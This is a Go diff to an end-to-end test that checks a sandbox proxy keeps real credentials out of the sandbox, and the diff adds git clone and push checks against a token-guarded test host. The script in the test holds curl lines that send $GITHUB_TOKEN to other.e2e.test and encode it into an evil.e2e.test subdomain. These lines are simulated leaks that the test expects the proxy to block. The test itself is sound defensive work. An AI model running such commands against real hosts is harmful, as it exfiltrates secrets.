@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/base64"
 	"fmt"
+	"net/http"
 	"net/netip"
 	"os"
 	"os/exec"
@@ -41,20 +42,35 @@ func TestCredentialsNeverEnterTheSandbox(t *testing.T) {
 	n.AddAddr(n.Addr(3).String())
 	_, _, caPEM := n.TLSServerOn(t, n.Addr(2).String()+":443", testnet.Handler(), "api.e2e.test")
 	n.TLSServerOn(t, n.Addr(3).String()+":443", testnet.Handler(), "other.e2e.test")
+	// A git host that accepts only the real token.
+	n.AddAddr(n.Addr(4).String())
+	gitRoot := t.TempDir()
+	testnet.NewBareRepo(t, gitRoot, "myorg/myrepo.git")
+	git := testnet.GitHandler(gitRoot)
+	wantAuth := "Basic " + base64.StdEncoding.EncodeToString([]byte("x:"+realToken))
+	n.TLSServerOn(t, n.Addr(4).String()+":443", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("Authorization") != wantAuth {
+			w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
+			http.Error(w, "auth required", http.StatusUnauthorized)
+			return
+		}
+		git.ServeHTTP(w, r)
+	}), "git.e2e.test")
 	dns := dnstest.New(t)
 	dns.Set("api.e2e.test", []netip.Addr{n.Addr(2)}, time.Minute)
 	dns.Set("other.e2e.test", []netip.Addr{n.Addr(3)}, time.Minute)
+	dns.Set("git.e2e.test", []netip.Addr{n.Addr(4)}, time.Minute)
 	settings := writeSettings(t, fmt.Sprintf(`
 network:
-  allowedDomains: ["api.e2e.test", "other.e2e.test", "*.evil.e2e.test"]
+  allowedDomains: ["api.e2e.test", "other.e2e.test", "git.e2e.test", "*.evil.e2e.test"]
   tlsTerminate:
     upstreamCaCertPaths: [%q]
 credentials:
   envVars:
-    - {name: GITHUB_TOKEN, mode: mask, injectHosts: [api.e2e.test]}
+    - {name: GITHUB_TOKEN, mode: mask, injectHosts: [api.e2e.test, git.e2e.test]}
     - {name: OPENAI_API_KEY, mode: deny}
   files:
-    - {path: %q, mode: mask, injectHosts: [api.e2e.test], extract: "oauth_token: (\\S+)"}
+    - {path: %q, mode: mask, injectHosts: [api.e2e.test, git.e2e.test], extract: "oauth_token: (\\S+)"}
 filesystem:
   allowWrite: [%q]
 dns:
@@ -81,6 +97,9 @@ for where in header query body; do
     body)   curl -sS -D - -o /dev/null -X POST -d "t=$GITHUB_TOKEN" https://other.e2e.test/echo ;;
   esac | tr -d '\r' | grep -i '^x-proxy-error' | sed "s/^/leak-$where: /"
 done
+export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@e2e.test GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@e2e.test
+git clone -q "https://x:$GITHUB_TOKEN@git.e2e.test/myorg/myrepo.git" r 2>&1 && echo "git clone with token ok"
+(cd r && echo 1 > f && git add f && git commit -qm c && git push -q origin HEAD:refs/heads/from-sandbox 2>&1 && echo "git push with token ok")
 curl -sS -D - -o /dev/null "https://$(echo $GITHUB_TOKEN | tr 'A-Z_' 'a-z-').evil.e2e.test/" 2>&1 | tr -d '\r' | grep -i -E 'x-proxy-error|403' | head -2 | sed 's/^/leak-label: /'
 `
 	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
@@ -115,6 +134,8 @@ curl -sS -D - -o /dev/null "https://$(echo $GITHUB_TOKEN | tr 'A-Z_' 'a-z-').evi
 		"leak-query: x-proxy-error: blocked-credential-leak",
 		"leak-body: x-proxy-error: blocked-credential-leak",
 		"leak-label: ",
+		"git clone with token ok",
+		"git push with token ok",
 	} {
 		if !strings.Contains(got, want) {
 			t.Errorf("missing %q in:\n%s", redact(want), redact(got))
